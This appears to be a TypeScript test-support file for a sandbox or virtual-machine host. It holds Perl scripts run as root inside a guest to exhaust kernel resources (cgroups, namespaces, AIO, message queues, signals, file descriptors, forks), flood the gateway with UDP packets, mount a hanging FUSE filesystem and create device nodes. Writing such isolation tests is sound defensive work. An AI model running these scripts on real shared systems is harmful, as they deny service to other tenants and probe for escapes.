/*
 * Attacks by root inside a guest, as code for the guest's perl. Each attack prints its result. With `$hold`, the attack
 * then keeps its resources until it is killed.
 */

const hold = `$| = 1; sub done { print "@_\\n"; sleep 600 if $hold }`

/** Mounts all cgroup hierarchies and creates as many cgroups as possible. Prints numbers: `memory 0 unified 509`. */
export const groups = `${hold}
my %made;
mkdir '/mnt/groups';
open(my $own, '<', '/proc/self/cgroup'); # id:controllers:path, no controllers for v2
open(my $all, '<', '/proc/cgroups');
my @kinds = ((map { /^[0-9]+:([^:]*):/ ? $1 || 'unified' : () } <$own>), (map { /^([a-z_]+)/ ? $1 : () } <$all>));
for my $kind (grep { !defined $made{$_} } @kinds) {
  my ($type, $options) = $kind eq 'unified' ? ('cgroup2', '') : ('cgroup', $kind =~ /=/ ? "-onone,$kind" : "-o$kind");
  system("mount -t $type $options x /mnt/groups 2>/dev/null") == 0 or next;
  $made{$kind} = 0;
  mkdir "/mnt/groups/attack$_" and ++$made{$kind} or last for 1 .. 3000;
  $hold or rmdir "/mnt/groups/attack$_" for 1 .. $made{$kind};
  system('umount -l /mnt/groups');
}
done(%made);`

/** Creates namespaces of one kind under many user ids of the guest. Prints their number. */
export const namespaces = (flag: number): string => `${hold}
my ($made, @held) = (0);
for my $user (0 .. 9) {
  for (1 .. 100) {
    pipe(my $r, my $w);
    my $pid = fork // last;
    if (!$pid) {
      $) = $( = "$user $user"; $< = $user; $> = $user if $user;
      my $ok = syscall(272, 0x10000000 | ${flag}) == 0;
      syswrite $w, $ok ? 'y' : 'n';
      sleep 600 if $ok;
      exit;
    }
    close $w;
    sysread $r, my $answer, 1;
    push @held, $pid;
    $answer eq 'y' and $made++ or last;
  }
}
print "$made\\n";
sleep 600 if $hold;
kill 9, @held;`

/** Creates asynchronous I/O contexts until that fails. Prints the number of events. */
export const aio = `${hold}
my $events = 0;
my $context = pack('Q', 0);
while (syscall(206, 65536, $context) == 0) { $events += 65536; $context = pack('Q', 0); last if $events >= 3_000_000 }
done($events);`

/** Creates a socket with two packet rings. Prints `held` or an error number for each ring. */
export const packetRings = `${hold}
socket(my $s, 17, 3, 0) or die "socket: $!";
my $ring = pack('L4', 1 << 20, 8, 1 << 11, 8 << 9);
done(map { setsockopt($s, 263, $_, $ring) ? 'held' : $! + 0 } 5, 13);`

/** Prints the numbers of the address families for which a socket of any type can be opened. */
export const families = `${hold}
done(grep { my $family = $_; grep { socket(my $s, $family, $_, 0) } 1, 2, 3 } 0 .. 63);`

/** Prints the numbers of the netlink protocols for which a socket can be opened. */
export const netlinkProtocols = `${hold}
done(grep { socket(my $s, 16, 3, $_) } 0 .. 31);`

/** Creates POSIX message queues under many user ids of the guest. Prints their total number of bytes. */
export const messageQueues = `${hold}
my ($made, @held) = (0);
for my $user (0 .. 49) {
  pipe(my $r, my $w);
  my $pid = fork // last;
  if (!$pid) {
    $) = $( = "$user $user"; $< = $user; $> = $user if $user;
    my $count = 0;
    my $attributes = pack('q8', 0, 10, 8192, 0, 0, 0, 0, 0);
    while ($count < 100) { my $name = "q$user-$count\\0"; last if syscall(240, $name, 0102, 0600, $attributes) < 0; $count++ }
    print $w "$count\\n"; close $w;
    sleep 600;
    exit;
  }
  close $w;
  $made += <$r>;
  push @held, $pid;
}
print "$made\\n";
sleep 600 if $hold;
kill 9, @held;`

/** Queues signals that are never received. Prints their number. */
export const pendingSignals = `${hold}
my ($made, @held) = (0);
for my $user (0 .. 9) {
  pipe(my $r, my $w);
  my $pid = fork // last;
  if (!$pid) {
    $) = $( = "$user $user"; $< = $user; $> = $user if $user;
    my $count = 0;
    my $timer = pack('Q', 0);
    while ($count < 40_000) { last if syscall(222, 1, 0, $timer) < 0; $count++ }
    print $w "$count\\n"; close $w;
    sleep 600;
    exit;
  }
  close $w;
  $made += <$r>;
  push @held, $pid;
}
print "$made\\n";
sleep 600 if $hold;
kill 9, @held;`

/** Creates inotify instances under some user ids of the guest. Prints their number. */
export const inotify = `${hold}
my ($made, @held) = (0);
for my $user (0 .. 9) {
  pipe(my $r, my $w);
  my $pid = fork // last;
  if (!$pid) {
    $) = $( = "$user $user"; $< = $user; $> = $user if $user;
    my $count = 0;
    $count++ while $count < 1000 && syscall(294, 0) >= 0;
    print $w "$count\\n"; close $w;
    sleep 600;
    exit;
  }
  close $w;
  $made += <$r>;
  push @held, $pid;
}
print "$made\\n";
sleep 600 if $hold;
kill 9, @held;`

/**
 * A static 32-bit x86 program that opens a socket of a family with the system call socket, and another with socketcall.
 * Its exit code is 1 if socket succeeded, plus 2 if socketcall succeeded.
 */
export function socketProgram(family: number): Buffer {
  const code = [
    0x31,
    0xf6, // xor esi, esi
    // socket(family, SOCK_STREAM, 0)
    0xb8,
    0x67,
    0x01,
    0,
    0,
    0xbb,
    family,
    0,
    0,
    0,
    0xb9,
    1,
    0,
    0,
    0,
    0x31,
    0xd2,
    0xcd,
    0x80,
    0x85,
    0xc0,
    0x78,
    0x03,
    0x83,
    0xc6,
    0x01, // test eax, eax; js; add esi, 1
    // socketcall(SYS_SOCKET, {family, SOCK_STREAM, 0})
    0x6a,
    0,
    0x6a,
    1,
    0x6a,
    family,
    0x89,
    0xe1,
    0xbb,
    1,
    0,
    0,
    0,
    0xb8,
    0x66,
    0,
    0,
    0,
    0xcd,
    0x80,
    0x85,
    0xc0,
    0x78,
    0x03,
    0x83,
    0xc6,
    0x02,
    0x89,
    0xf3,
    0xb8,
    1,
    0,
    0,
    0,
    0xcd,
    0x80, // exit(esi)
  ]
  const [base, header] = [0x08048000, 52 + 32]
  const file = Buffer.alloc(header + code.length)
  file.write('\x7fELF\x01\x01\x01', 'latin1')
  const words = [0x00030002, 1, base + header, 52, 0, 0, 0x00200034, 1, 0]
  words.forEach((word, at) => file.writeUInt32LE(word >>> 0, 16 + at * 4))
  const segment = [1, 0, base, base, file.length, file.length, 5, 0x1000]
  segment.forEach((word, at) => file.writeUInt32LE(word, 52 + at * 4))
  file.set(code, header)
  return file
}

/** Waits for the file `/root/go`, then runs all attacks at the same time, repeatedly until the guest ends. */
export const everything = `
select undef, undef, undef, 0.2 until -e '/root/go';
sub forever { my ($work) = @_; fork and return; while (1) { $work->(); select undef, undef, undef, 0.05 } }
sub attack { my ($code) = @_; forever(sub { my $pid = fork // return; if (!$pid) { open STDOUT, '>', '/dev/null'; eval $code; exit } waitpid $pid, 0 }) }
attack($_) for @attacks;
forever(sub { my @files; while (open my $f, '<', '/dev/zero') { push @files, $f; last if @files > 15_000 } });
forever(sub { socket(my $s, 2, 2, 17) or return; for my $port (1 .. 20_000) { send $s, 'x', 0, pack('S n a4 x8', 2, $port, $gateway) } });
forever(sub { my @sockets; for (1 .. 5000) { socket(my $s, 2, 1, 6) or last; push @sockets, $s } });
forever(sub { system 'dd if=/dev/zero of=/root/synced bs=1M count=32 conv=fsync 2>/dev/null' });
forever(sub { system 'dd if=/dev/zero of=/root/dirty bs=1M count=200 2>/dev/null' });
forever(sub { my @text = ('user', 'x', 'y'); syscall(248, @text, 1, -3) for 1 .. 1000 });
forever(sub { for (1 .. 1000) { my $pid = fork // last; if (!$pid) { sleep 2; exit } } 1 while waitpid(-1, 1) > 0 });
sleep 100_000;`

/** Creates a virtual network interface. Prints \`made tun9\`, or the error. */
export const tun = `${hold}
sysopen(my $tun, '/dev/net/tun', 2) or do { done("open: $!"); exit };
my $request = pack('Z16 s x22', 'tun9', 0x1001);
ioctl($tun, 0x400454ca, $request) or do { done("create: $!"); exit };
system('ip link set tun9 up && ip address add 198.51.100.1/24 dev tun9') == 0 or do { done('no address'); exit };
done('made', unpack('Z16', $request));`

/** Mounts a user-space file system on /mnt that never answers. Prints \`mounted\`, or the error. */
export const fuse = `${hold}
sysopen(my $fuse, '/dev/fuse', 2) or do { done("open: $!"); exit };
fcntl($fuse, 2, 0);
my ($source, $target, $type) = ('attack', '/mnt', 'fuse');
my $options = 'fd=' . fileno($fuse) . ',rootmode=40000,user_id=0,group_id=0,allow_other';
syscall(165, $source, $target, $type, 0, $options) == 0 or do { done("mount: $!"); exit };
done('mounted');`

/** Tries to create and open device nodes in several directories. Prints the result for each. */
export const deviceNode = (major: number, minor: number): string => `${hold}
my $number = ${major} * 256 + ${minor};
my @said;
for my $path ('/dev/attack', '/root/attack-node', '/tmp/attack', '/run/attack', '/dev/shm/attack') {
  my $made = "$path";
  my $how = syscall(133, $made, 020666, $number) == 0 ? sysopen(my $node, $path, 2) ? 'open' : "no open" : "no node";
  push @said, $how;
}
done(join ' ', @said, sysopen(my $planted, '/root/planted', 2) ? 'open' : "$!");`
